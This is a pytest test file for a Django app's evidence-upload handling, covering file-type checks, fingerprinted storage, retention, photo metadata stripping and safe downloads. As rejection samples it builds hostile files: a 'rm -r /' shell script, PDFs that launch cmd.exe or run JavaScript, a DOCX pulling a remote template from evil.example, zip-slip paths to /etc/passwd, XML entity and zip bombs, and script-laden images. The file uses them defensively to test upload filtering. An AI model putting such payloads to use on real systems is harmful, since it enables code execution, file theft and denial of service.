"""Evidence: what is taken and what is not, how it is kept, and how it is given back."""

import hashlib
import io
import os
import random
import zipfile
from collections.abc import Callable
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import timezone

from commonweal.basics.findings import Refused
from commonweal.basics.tables import ERASED
from commonweal.exchange.files import File
from commonweal.exchange.sniffing import NotTaken
from commonweal.web.audit import actions as audit
from commonweal.web.audit import retention
from commonweal.web.audit.actions import Actor, history, verify
from commonweal.web.audit.models import Apart
from commonweal.web.audit.retention import destroy
from commonweal.web.evidence.actions import take, take_away
from commonweal.web.evidence.keeping import Damaged, damaged, keep, place_of, read
from commonweal.web.evidence.models import Upload
from commonweal.web.evidence.photographs import without_notes
from commonweal.web.evidence.scanning import scan
from commonweal.web.evidence.sorts import LONGEST_NAME, MOST_BYTES, shown_name, sort_of
from commonweal.web.people.access import Visit
from commonweal.web.people.models import Body
from commonweal.web.register.models import ROWS
from commonweal.web.register.reading import record, records
from commonweal.web.returns.actions import add_answer, take_away_answer
from commonweal.web.returns.arranging import take_back_round, why_not_take_back
from commonweal.web.returns.models import Answer, Round
from commonweal.web.review.actions import decide
from tests.report.publishable import png
from tests.web.asked import answered, asked, in_boxes, opened, sent
from tests.web.conftest import TESTER, person, signed_in
from tests.web.test_photographs import photograph

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
PNG, JPEG = png(), photograph("JPEG", notes=False)
MAIL = (b"From: a@b.example\r\nTo: c@d.example\r\nDate: Mon, 1 Jan 2024 10:00:00 +0000\r\nSubject: Hours\r\n\r\n"
        b"Ten hours.\r\n")
TYPES = "[Content_Types].xml"
PROGRAM, ELF = b"MZ\x90\x00" + bytes(60), b"\x7fELF" + bytes(60)
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def archive(*members: tuple[str, bytes], change: Callable[[zipfile.ZipInfo], None] | None = None) -> bytes:
    """A ZIP file of these members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members:
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if change:
                change(info)
            made.writestr(info, content)
    return out.getvalue()


def office(*more: tuple[str, bytes], part: str = "xl/workbook.xml", inside: bytes = b"<workbook/>") -> bytes:
    """An office file with further members."""
    return archive((TYPES, b"<Types/>"), (part, inside), *more)


XLSX, DOCX = office(), office(part="word/document.xml")
GOOD = {
    "hours.pdf": PDF, "HOURS.PDF": PDF, "garden.png": PNG, "garden.jpg": JPEG, "garden.jpeg": JPEG, "hours.xlsx": XLSX,
    "letter.docx": DOCX, "hours.csv": b"day,hours\n2025-01-01,4\n", "note.txt": "Zwölf Stunden".encode(),
    "windows.csv": "Café;1\r\n".encode("cp1252"), "letter.eml": MAIL,
}
LINK = 0o120777 << 16
DECEPTIVE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><workbook>&b;</workbook>'
# Sixty files that are not what they are called, or more than it.
DISGUISED: list[tuple[str, bytes]] = [
    *((f"report.{ending}", PROGRAM) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv", "txt", "eml")),
    *((f"report.{ending}", ELF) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv")),
    *((f"report.{ending}", HTML) for ending in ("pdf", "png", "jpg", "xlsx", "docx", "csv", "txt", "eml")),
    ("photo.svg", SVG), ("photo.png", SVG), ("photo.csv", SVG), ("photo.jpg", SVG), ("page.html", HTML),
    ("program.exe", PROGRAM), ("report.pdf.exe", PROGRAM), ("script.js", b"alert(1)"), ("run.sh", b"#!/bin/sh\n"),
    ("run.txt", b"#!/bin/sh\nrm -r /\n"), ("page.txt", b"\xef\xbb\xbf  <html><body>"), ("page.csv", b"<?php echo 1;"),
    ("report.pdf", PNG), ("report.png", PDF), ("report.png", JPEG), ("report.xlsx", DOCX), ("report.docx", XLSX),
    ("report.csv", XLSX), ("report.txt", PDF), ("old.xls", bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600)),
    ("report.xlsx", bytes.fromhex("d0cf11e0a1b11ae1") + "EncryptedPackage".encode("utf-16-le") + bytes(600)),
    ("report.pdf", b" \n" + PDF), ("report.pdf", PDF[:-7]), ("polyglot.pdf", PDF + archive(("a.txt", b"x")) + b"%%EOF"),
    ("polyglot.png", PNG + archive(("a.txt", b"x"))), ("polyglot.jpg", JPEG + archive(("a.txt", b"x")) + b"\xff\xd9"),
    ("tail.png", PNG + b"<script>alert(1)</script>"),
    ("locked.pdf", PDF.replace(b"/Root", b"/Encrypt 5 0 R/Root")),
    ("film.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Rendition/JS(app.alert(1))>>")),
    ("active.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>")),
    ("launch.pdf", PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("carrier.pdf", PDF.replace(b"/Catalog", b"/Catalog/Names<</EmbeddedFiles 3 0 R>>")),
    ("macro.xlsm", office(("xl/vbaProject.bin", b"macro"))), ("macro.xlsx", office(("xl/vbaProject.bin", b"macro"))),
    ("macro.docx", office(("word/vbaProject.bin", b"macro"), part="word/document.xml")),
    ("object.docx", office(("word/embeddings/oleObject1.bin", b"ole"), part="word/document.xml")),
    ("template.docx", office(("word/_rels/settings.xml.rels", b'<Relationship Type="x/attachedTemplate" '
                              b'Target="http://evil.example/t.dotm" TargetMode="External"/>'),
                              part="word/document.xml")),
    ("empty.pdf", b""), ("blank.csv", b"\xef\xbb\xbf \r\n\t"), ("nul.txt", b"hours\x00\x00"), ("nul.pdf", bytes(40)),
    ("no-ending", PDF), ("mail.eml", b"Just text.\n"),
    ("carrier.eml", MAIL + b'Content-Disposition: attachment; filename="invoice.exe"\r\n'),
]
ARCHIVES: list[tuple[str, bytes]] = [
    ("bomb.xlsx", office(("xl/big.xml", bytes(30_000_000)))),
    ("nested.docx", office(("word/inner.zip", archive(("a", b"b"))), part="word/document.xml")),
    ("many.xlsx", office(*((f"xl/{number}.xml", b"x") for number in range(1_001)))),
    ("slip.xlsx", office(("../../etc/passwd", b"x"))),
    ("slip.docx", office(("/etc/passwd", b"x"), part="word/document.xml")),
    ("windows.xlsx", office(("C:\\autoexec.bat", b"x"))),
    ("link.xlsx", archive((TYPES, b"<Types/>"), ("xl/workbook.xml", b"/etc/passwd"),
                          change=lambda info: setattr(info, "external_attr", LINK))),
    ("entity.xlsx", office(inside=DECEPTIVE)), ("entity.docx", office(part="word/document.xml", inside=DECEPTIVE)),
    ("external.xlsx", office(inside=b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><workbook/>')),
    ("utf16.xlsx", office(inside=DECEPTIVE.decode().encode("utf-16"))),
    ("cut.xlsx", XLSX[:-40]), ("changed.docx", DOCX[:40] + b"\x00" * 30 + DOCX[70:]),
]


@pytest.mark.parametrize("name", GOOD)
def test_evidence_of_every_sort_is_taken(name):
    assert sort_of(File(name, GOOD[name])).shown.startswith("a")


def test_sixty_disguised_files_are_all_refused_with_what_to_do():
    assert len(DISGUISED) >= 60
    missed = []
    for name, content in DISGUISED:
        try:
            sort_of(File(name, content))
            missed.append(name)
        except NotTaken as error:
            assert str(error) and error.mend, name
    assert missed == []


def test_a_large_scan_in_which_the_letters_of_a_program_stand_by_chance_is_taken():
    scanned = PDF.replace(b"trailer", b"2 0 obj<</Length 9>>stream\n\x80\x91/JS(\xfe\xff\nendstream endobj\ntrailer")
    assert sort_of(File("scan.pdf", scanned)).content_type == "application/pdf"


@pytest.mark.parametrize(("name", "content"), ARCHIVES, ids=[name for name, _ in ARCHIVES])
def test_an_office_file_that_is_a_trap_is_refused(name, content):
    with pytest.raises(NotTaken):
        sort_of(File(name, content))


def test_a_file_that_is_too_large_is_refused():
    with pytest.raises(NotTaken, match="larger than 20 MB"):
        sort_of(File("large.csv", b"x" * (MOST_BYTES + 1)))


@pytest.mark.parametrize(("name", "shown"), [
    ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\temp\\hours.pdf", "hours.pdf"),
    ("hours\u202efdp.exe", "hoursfdp.exe"),
    ("a\x00b.pdf", "ab.pdf"), ("line\nbreak.pdf", "linebreak.pdf"),
    ("x" * 300 + ".pdf", "x" * (LONGEST_NAME - 4) + ".pdf"),
    ("", "file"), ("  .pdf", ".pdf"),
])
def test_a_name_is_shown_without_folders_and_hidden_signs(name, shown):
    assert shown_name(name) == shown and len(shown_name(name)) <= LONGEST_NAME


def test_bytes_are_kept_once_by_their_fingerprint_and_ten_that_were_damaged_are_all_found(settings, tmp_path):
    settings.HOME = tmp_path
    kept = [keep(f"file {number}".encode()) for number in range(1_000)]
    assert keep(b"file 0") == kept[0] and read(kept[0]) == b"file 0"
    assert place_of(kept[0]) == tmp_path / "evidence" / kept[0][:2] / kept[0]
    assert place_of(kept[0]).stat().st_mode & 0o777 == 0o400
    spoiled = random.Random(20250331).sample(kept, 10)
    for sha256 in spoiled:
        place_of(sha256).chmod(0o600)
        place_of(sha256).write_bytes(b"something else")
    assert set(damaged(kept)) == set(spoiled)
    with pytest.raises(Damaged):
        read(spoiled[0])
    with pytest.raises(ValueError, match="not a fingerprint"):
        place_of("../secret")


def test_what_a_crash_left_half_written_is_tidied_away_and_nothing_else(body, settings, tmp_path):
    settings.HOME = tmp_path
    take(TESTER, body, ("repairs", "brightbuild", "x"), [File("kept.txt", b"kept")], "register", date(2025, 1, 1))
    kept = place_of(Upload.objects.get().sha256)
    left = [kept.parent / "tmpabc", tmp_path / "evidence" / "incoming-abc"]
    now_written = kept.parent / "tmpnew"
    for path in (*left, now_written):
        path.write_bytes(b"half")
    for path in (*left, kept):
        os.utime(path, (0, 0))
    call_command("tidy")
    assert [path.exists() for path in (*left, now_written, kept)] == [False, False, True, True]


@pytest.mark.parametrize(("command", "told"), [
    ("sh -c 'exit 1'", "found something"), ("sh -c 'exit 2'", "does not answer"),
    ("/no/such/scanner", "does not answer")])
def test_a_scanner_that_finds_something_or_cannot_tell_keeps_the_file_out(settings, tmp_path, command, told):
    settings.HOME, settings.SCANNER = tmp_path, command
    with pytest.raises(NotTaken, match=told):
        scan(b"x")


def test_a_scanner_reads_the_very_bytes_and_without_one_nothing_is_claimed(settings, tmp_path):
    settings.HOME, settings.SCANNER = tmp_path, "grep -q harmless"
    assert scan(b"harmless") == "clean"
    settings.SCANNER = ""
    assert scan(b"anything") == "not scanned"


@pytest.fixture
def supplier(body):
    """A browser of somebody at Brightbuild, asked about a quarter."""
    opened(body)
    return signed_in(person("supplier", body, "brightbuild"))


KEY = "2025-q1.repairs.brightbuild.1"
KEEPER = Actor("keeper", "administrator", "smallford")


def _bring(browser, *files, kind="timesheet", dated="2025-03-31", **said):
    """Files chosen on the page of an answer, and a button that stays there, if no other one is pressed."""
    return browser.post(f"/smallford/returns/answers/{KEY}/", {
        "upload": [SimpleUploadedFile(name, content) for name, content in files], "kind": kind,
        **in_boxes("dated", dated), "version": 0, **(said or {"stay": "yes"})})


def test_files_are_brought_shown_taken_away_and_sent_with_the_return(supplier, body):
    assert _bring(supplier, ("hours.pdf", PDF), ("garden.png", PNG)).status_code == 302
    _bring(supplier, ("again.pdf", PDF))
    assert Upload.objects.count() == 2
    page = supplier.get(f"/smallford/returns/answers/{KEY}/").content.decode()
    assert "hours.pdf" in page and "not scanned for viruses: no scanner is set up here" in page
    away = Upload.objects.get(name="garden.png")
    supplier.post(f"/smallford/returns/answers/{KEY}/", {"away": away.key, "version": 0})
    before = Upload.objects.get()
    answered(asked(body), "volunteering-hours", "5")
    sent(asked(body))
    rows = records(body, "evidence", delivery=KEY)
    assert [(row.text("file_name"), row.text("kind"), row.text("sha256")) for row in rows] == [
        ("hours.pdf", "timesheet", keep(PDF))]
    with pytest.raises(Refused, match="was sent"):
        take_away(TESTER, Upload.objects.get())
    # As it was before somebody else sent it, on a page that is still open.
    with pytest.raises(Refused, match="was sent"):
        take_away(TESTER, before)
    with pytest.raises(Refused, match="taken away already"):
        take_away(TESTER, away)


def test_two_bodies_whose_answers_are_called_alike_keep_and_lose_their_own_files_only(supplier, body, other_body):
    opened(other_body)
    elsewhere = signed_in(person("supplier", other_body, "brightbuild"))
    _bring(supplier, ("ours.pdf", PDF))
    elsewhere.post(f"/elsewhere/returns/answers/{KEY}/", {
        "upload": [SimpleUploadedFile("theirs.pdf", PDF)], "kind": "timesheet", **in_boxes("dated", "2025-03-31"),
        "version": 0, "stay": "yes"})
    page = elsewhere.get(f"/elsewhere/returns/answers/{KEY}/").content.decode()
    assert "theirs.pdf" in page and "ours.pdf" not in page
    added = [add_answer(TESTER, asked(each), "apprenticeships") for each in (body, other_body)]
    assert added[0].key == added[1].key
    Upload.objects.update(answer=added[0].key)
    take_away_answer(TESTER, added[1])
    assert [upload.name for upload in Upload.objects.all()] == ["ours.pdf"]


def test_files_are_never_lost_without_a_word(supplier):
    unsaid = _bring(supplier, ("hours.pdf", PDF), kind="").content.decode()
    assert "Choose what the files are" in unsaid and "None of the files was kept: choose them again." in unsaid
    assert "<title>Error:" in unsaid
    # Whoever then says what they are, and goes on, learns that no file is there.
    assert _bring(supplier, go="on").status_code == 200
    assert not Upload.objects.exists()
    assert _bring(supplier, kind="", go="on").status_code == 302


def test_what_a_file_was_called_goes_everywhere_when_the_register_erases_it(supplier, body):
    _bring(supplier, ("ann-lee.pdf", PDF))
    answered(asked(body), "volunteering-hours", "5")
    supplier.post("/smallford/returns/2025-q1.repairs.brightbuild/check/", {
        "name": "R", "office": "S", "agreed": "on", "seen": 0})
    row = records(body, "evidence", delivery=KEY)[0]
    assert Apart.objects.filter(value="ann-lee.pdf").count() >= 2
    assert destroy(body.slug, [f"evidence.file_name {row.key}"]) == 1
    assert not Apart.objects.filter(value="ann-lee.pdf").exists() and verify()[1] == []
    assert (record(body, "evidence", row.key).get("file_name"), Upload.objects.get().name) == (None, ERASED)
    assert read(row.text("sha256")) == PDF


def _destroyed(body: Body) -> int:
    """Have all that is due proposed by one and approved by another."""
    first, second = (Actor(nth, "administrator", body.slug) for nth in ("first", "second"))
    return audit.decide_disposal(second, audit.propose_disposal(first), True).destroyed


def _due(body: Body) -> list[str]:
    return [each.name for _, each in retention.due(body.slug)]


@pytest.fixture
def claimed(supplier, body):
    """Two files that went with a return, both as if their claim had ended long ago."""
    _bring(supplier, ("hours.pdf", PDF), ("garden.png", PNG))
    answered(asked(body), "volunteering-hours", "5")
    sent(asked(body))
    ROWS["deliveries"].objects.filter(body=body, key=KEY).update(end=date(2015, 1, 1))
    return {upload.name: upload for upload in Upload.objects.all()}


def test_a_file_goes_so_long_after_its_claim_ended_and_the_row_with_its_fingerprint_stays(
        claimed, supplier, body, django_capture_on_commit_callbacks):
    pdf, png_kept = claimed["hours.pdf"], claimed["garden.png"]
    assert _due(body) == []
    audit.set_period(KEEPER, "evidence", "", "", 72, "policy")
    assert sorted(_due(body)) == sorted([pdf.key, png_kept.key])
    holds = (("evidence", pdf.row, [png_kept.key]), ("deliveries", KEY, []), ("activities", "repairs", []))
    for table, key, kept in holds:
        audit.hold(KEEPER, table, key, "A court asked for it.")
        assert _due(body) == kept, table
        audit.end_hold(KEEPER, audit.Hold.objects.filter(ended=None).get())
    audit.hold(KEEPER, "evidence", png_kept.row, "A court asked for it.")
    with django_capture_on_commit_callbacks(execute=True):
        assert _destroyed(body) == 1
    assert not place_of(pdf.sha256).exists() and read(png_kept.sha256) == PNG and _due(body) == []
    assert record(body, "evidence", pdf.row).text("sha256") == pdf.sha256 and verify()[1] == []
    officer = signed_in(person("officer", body))
    page = officer.get(f"/smallford/reported/{KEY}/").content.decode()
    assert "hours.pdf" in page and f"?file={pdf.key}" not in page and f"?file={png_kept.key}" in page
    assert "its time was over" in page
    assert officer.get(f"/smallford/reported/{KEY}/evidence/?file={pdf.key}").status_code == 404
    answer = supplier.get(f"/smallford/returns/answers/{KEY}/").content.decode()
    assert "its time was over" in answer and f"/evidence/{pdf.key}/" not in answer
    assert supplier.get(f"/smallford/returns/evidence/{pdf.key}/").status_code == 404


def test_bytes_that_support_two_claims_stay_until_the_last_of_them_is_over(
        claimed, body, django_capture_on_commit_callbacks):
    pdf = claimed["hours.pdf"]
    other, = take(TESTER, body, ("repairs", "brightbuild", "another"), [File("same.pdf", PDF)], "register",
                  date(2025, 1, 1))
    with django_capture_on_commit_callbacks(execute=True):
        assert destroy(body.slug, [f"evidence {pdf.key}"]) == 1
    assert read(other.sha256) == PDF
    with django_capture_on_commit_callbacks(execute=True):
        assert destroy(body.slug, [f"evidence {other.key}", f"evidence {pdf.key}"]) == 1
    assert not place_of(pdf.sha256).exists()
    again, = take(TESTER, body, ("repairs", "brightbuild", "another"), [File("same.pdf", PDF)], "register",
                  date(2025, 1, 1))
    assert (again.pk, again.destroyed, read(again.sha256)) == (other.pk, None, PDF)


def test_a_file_that_was_never_sent_counts_from_the_day_it_was_brought_and_is_held_with_its_contract(supplier, body):
    _bring(supplier, ("hours.pdf", PDF))
    audit.set_period(KEEPER, "evidence", "", "", 12, "policy")
    assert _due(body) == []
    Upload.objects.update(at=timezone.now() - timedelta(days=400))
    assert _due(body) == [Upload.objects.get().key]
    audit.hold(KEEPER, "activities", "repairs", "A court asked for it.")
    assert _due(body) == []


def test_what_was_taken_away_before_it_was_sent_is_gone_from_disk_a_day_later(supplier, body):
    _bring(supplier, ("hours.pdf", PDF), ("garden.png", PNG))
    away = Upload.objects.get(name="hours.pdf")
    take_away(TESTER, away)
    gone, stays = place_of(away.sha256), place_of(Upload.objects.get().sha256)
    call_command("tidy")
    assert gone.exists()
    for path in (gone, stays):
        os.utime(path, (0, 0))
    # Who brings it at this very moment does not lose it.
    keep(PDF)
    call_command("tidy")
    assert gone.exists()
    os.utime(gone, (0, 0))
    call_command("tidy")
    assert not gone.exists() and stays.exists()


def test_what_is_not_taken_says_why_beside_the_field_and_none_of_the_files_is_kept(supplier):
    page = _bring(supplier, ("hours.pdf", PDF), ("photo.png", HTML)).content.decode()
    assert "photo.png: the file is called a PNG picture, and its content is something else" in page
    assert "There is a problem" in page
    assert not Upload.objects.exists()
    assert "Choose at least one file" in _bring(supplier).content.decode()
    page = _bring(supplier, ("hours.pdf", PDF), dated="yesterday").content.decode()
    assert "write the day, the month and the year in numbers" in page


@pytest.mark.parametrize("button", ["stay", "later", "continue"])
def test_a_number_and_files_are_saved_together_by_every_button(supplier, button):
    reply = _bring(supplier, ("hours.pdf", PDF), ("garden.png", PNG), quantity="12.5", **{button: "yes"})
    assert reply.status_code == 302
    found = Answer.objects.get(key=KEY)
    assert (str(found.quantity), found.done, found.version) == ("12.5000", button == "continue", 1)
    assert Upload.objects.filter(answer=KEY).count() == 2


def test_a_refused_file_does_not_lose_the_number_and_a_refused_number_does_not_lose_the_file(supplier):
    page = _bring(supplier, ("photo.png", HTML), quantity="12.5", stay="yes").content.decode()
    assert Answer.objects.get(key=KEY).version == 1 and not Upload.objects.exists()
    assert 'value="12.5"' in page and "None of the files was kept: choose them again." in page
    assert 'name="version" value="1"' in page
    page = _bring(supplier, ("hours.pdf", PDF), quantity="about 20", version=1, stay="yes").content.decode()
    assert 'value="about 20"' in page and page.count("There is a problem") == 1
    assert "Kept, to be sent with the return: hours.pdf." in page and Upload.objects.get().name == "hours.pdf"
    assert str(Answer.objects.get(key=KEY).quantity) == "12.5000"
    page = _bring(supplier, ("photo.png", HTML), quantity="about 20", version=1, stay="yes").content.decode()
    assert "called a PNG picture" in page and page.count("There is a problem") == 1
    assert "How many or how much (unit: hour): write 20." in page


def test_taking_a_file_away_saves_what_was_typed_too(supplier):
    _bring(supplier, ("hours.pdf", PDF))
    said = {"away": Upload.objects.get().key, "version": 0, "quantity": "7"}
    supplier.post(f"/smallford/returns/answers/{KEY}/", said)
    assert not Upload.objects.exists() and str(Answer.objects.get(key=KEY).quantity) == "7.0000"


def test_a_period_for_which_a_file_was_brought_is_not_taken_back(supplier, body):
    assert why_not_take_back(Round.objects.get()) is None
    _bring(supplier, ("hours.pdf", PDF))
    with pytest.raises(Refused, match="began to answer"):
        take_back_round(TESTER, Round.objects.get())


def test_files_alone_begin_no_answer_and_an_answer_alone_needs_no_file(supplier):
    _bring(supplier, ("hours.pdf", PDF))
    assert Answer.objects.get(key=KEY).version == 0
    assert _bring(supplier, kind="", quantity="7", dated="never", later="yes").status_code == 302
    assert Answer.objects.get(key=KEY).version == 1


def test_two_people_who_meet_lose_neither_number_nor_file(supplier, body):
    answered(asked(body), "volunteering-hours", "5")
    page = _bring(supplier, ("hours.pdf", PDF), quantity="9", stay="yes").content.decode()
    assert "Somebody else saved this meanwhile" in page and 'value="9"' in page and 'name="version" value="1"' in page
    assert Upload.objects.get().name == "hours.pdf" and Answer.objects.get(key=KEY).quantity == 5


@pytest.mark.parametrize("state", ["submitted", "queried", "rejected"])
def test_a_file_that_is_brought_after_sending_is_sent_with_the_next(supplier, body, state):
    answered(asked(body), "volunteering-hours", "5")
    sent(asked(body))
    if state != "submitted":
        decision = {"queried": "query", "rejected": "reject"}[state]
        decide(Visit.of(person("officer", body), body, "tests"), record(body, "deliveries", KEY), decision, "Show it.")
    with pytest.raises(Refused, match="nothing to send"):
        sent(asked(body))
    _bring(supplier, ("hours.pdf", PDF))
    shown = {"submitted": "Changed, not sent", "queried": "Question asked", "rejected": "Not accepted"}[state]
    for page in ("", "2025-q1.repairs.brightbuild/"):
        assert shown in supplier.get(f"/smallford/returns/{page}").content.decode() or (page, state) == ("", "rejected")
    sent(asked(body))
    claim = f"{KEY}-2" if state == "rejected" else KEY
    assert record(body, "deliveries", claim).text("state") == "submitted"
    assert [row.text("file_name") for row in records(body, "evidence", delivery=claim)] == ["hours.pdf"]
    with pytest.raises(Refused, match="nothing to send"):
        sent(asked(body))


def test_a_locked_answer_takes_no_file(supplier, body):
    Round.objects.update(opens=date(2090, 1, 1))
    page = _bring(supplier, ("hours.pdf", PDF), quantity="9", stay="yes").content.decode()
    assert "Answers are taken from 1 January 2090" in page and not Upload.objects.exists()


def test_what_is_claimed_anew_after_a_no_rests_on_the_same_files_and_so_does_what_was_not_accepted(supplier, body):
    officer = person("officer", body)
    _bring(supplier, ("hours.pdf", PDF))
    answered(asked(body), "volunteering-hours", "50")
    sent(asked(body))
    decide(Visit.of(officer, body), record(body, "deliveries", KEY), "reject", "The sheet shows 40.")
    answered(asked(body), "volunteering-hours", "40")
    _bring(supplier, ("hours.pdf", PDF))
    sent(asked(body))
    file = Upload.objects.get().key
    for claim in (KEY, f"{KEY}-2"):
        assert [row.text("file_name") for row in records(body, "evidence", delivery=claim)] == ["hours.pdf"]
        page = signed_in(officer).get(f"/smallford/reported/{claim}/").content.decode()
        assert "hours.pdf" in page and "not kept here" not in page
        assert signed_in(officer).get(f"/smallford/reported/{claim}/evidence/?file={file}").content == PDF
    assert decide(Visit.of(officer, body), record(body, "deliveries", f"{KEY}-2"), "verify", "As the sheet shows.")


@pytest.mark.parametrize("behind", [
    b"\x00\x00\x01\x0a\x0e\x00\x00\x00Image_UTC_Data1741600000000SEFH\x6b\x00\x00\x00\x01\x00\x00\x00SEFT",
    b"\x00\x00\x00\x18ftypmp42" + bytes(500)], ids=["notes", "film"])
def test_a_photograph_with_what_a_telephone_writes_behind_it_is_kept_without(supplier, behind):
    _bring(supplier, ("garden.jpg", JPEG + behind))
    upload = Upload.objects.get()
    assert read(upload.sha256) == JPEG and upload.arrived == hashlib.sha256(JPEG + behind).hexdigest()


def test_a_photograph_that_breaks_off_is_not_kept(supplier):
    assert "it breaks off" in _bring(supplier, ("garden.jpg", JPEG[:-2])).content.decode()
    assert not Upload.objects.exists()


def test_a_photograph_is_kept_without_its_notes_and_both_fingerprints_are_known(supplier, body):
    arrived = photograph("JPEG")
    page = _follow(supplier, _bring(supplier, ("garden.jpg", arrived), ("gate.png", PNG)))
    assert "The place and the camera&#39;s other notes were taken out of garden.jpg." in page
    upload = Upload.objects.get(name="garden.jpg")
    assert read(upload.sha256) == without_notes(arrived) and upload.size == len(read(upload.sha256))
    assert upload.arrived == hashlib.sha256(arrived).hexdigest() != upload.sha256
    assert Upload.objects.get(name="gate.png").arrived == ""
    event = history("smallford", "answers", KEY)[-1]
    assert event["after"] == {f"evidence/{upload.sha256}": "not scanned",
                              f"evidence/{upload.sha256}.arrived": upload.arrived,
                              f"evidence/{hashlib.sha256(PNG).hexdigest()}": "not scanned"}
    _bring(supplier, ("again.jpg", arrived))
    assert Upload.objects.filter(sha256=upload.sha256).count() == 1


def _follow(browser, reply):
    """The page that an answer leads to."""
    return browser.get(reply.headers["Location"]).content.decode()


def test_a_file_is_given_back_to_be_saved_and_never_shown(supplier, body):
    _bring(supplier, ("Zwölf \"hours\".pdf", PDF))
    answer = supplier.get(f"/smallford/returns/evidence/{Upload.objects.get().key}/")
    assert answer.content == PDF
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=\"Zw_lf")
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer.headers["Cache-Control"] == "no-store"


def test_a_file_that_was_changed_on_disk_is_not_given_out_and_the_page_says_so(supplier, body):
    _bring(supplier, ("hours.pdf", PDF))
    upload = Upload.objects.get()
    place_of(upload.sha256).chmod(0o600)
    place_of(upload.sha256).write_bytes(b"something else")
    answer = supplier.get(f"/smallford/returns/evidence/{upload.key}/")
    assert answer.status_code == 409 and "hours.pdf cannot be given out" in answer.content.decode()
    place_of(upload.sha256).unlink()


def test_another_organisation_of_the_same_contract_does_not_get_it(supplier, body):
    _bring(supplier, ("hours.pdf", PDF))
    from commonweal.basics.tables import Record
    from commonweal.ledger.tables import BY_NAME
    from commonweal.web.register.actions import write_row

    for table, said in (("organisations", {"id": "partner", "name": "Partner", "kind": "company"}),
                        ("parties", {"activity": "repairs", "organisation": "partner", "part": "partner"})):
        write_row(TESTER, body, Record(BY_NAME[table], dict.fromkeys(BY_NAME[table].names) | said), 0)
    partner = signed_in(person("supplier", body, "partner"))
    assert partner.get(f"/smallford/returns/evidence/{Upload.objects.get().key}/").status_code == 404
    assert partner.get(f"/smallford/returns/answers/{KEY}/").status_code == 404
